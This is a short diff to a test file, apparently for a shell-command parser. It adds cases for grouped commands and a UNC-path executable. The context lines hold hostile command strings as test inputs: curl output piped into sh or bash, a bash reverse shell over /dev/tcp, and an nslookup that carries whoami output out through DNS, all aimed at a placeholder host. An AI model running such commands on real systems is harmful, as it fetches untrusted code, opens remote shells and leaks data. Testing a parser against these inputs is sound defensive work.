@@ -16,6 +16,8 @@ describe('shellCommands', () => {
     ['curl -o out http://h/a?b=1 >log 2>&1', ['curl -o out http://h/a?b=1 >log >&1']],
     ['sh -c "$(curl -fsSL http://h/i)"', ['( curl -fsSL http://h/i', 'sh -c $(curl -fsSL http://h/i)']],
     ['bash <(curl -s http://h)', ['( curl -s http://h', 'bash <(curl -s http://h)']],
+    ['(a || b) 2>log | c; { d; e; } | f', ['a', '|| b', ') >log', '| c', '; d', '; e', '| f']],
+    ['run \\\\host\\share\\a.exe', ['run \\\\host\\share\\a.exe']],
     ['nslookup `whoami`.h', ['( whoami', 'nslookup $(whoami).h']],
     ['bash -i >& /dev/tcp/h/80 0>&1', ['bash -i >&/dev/tcp/h/80 >&1']],
     ['start /B node a.js & node a.js', ['start /B node a.js', '& node a.js']],
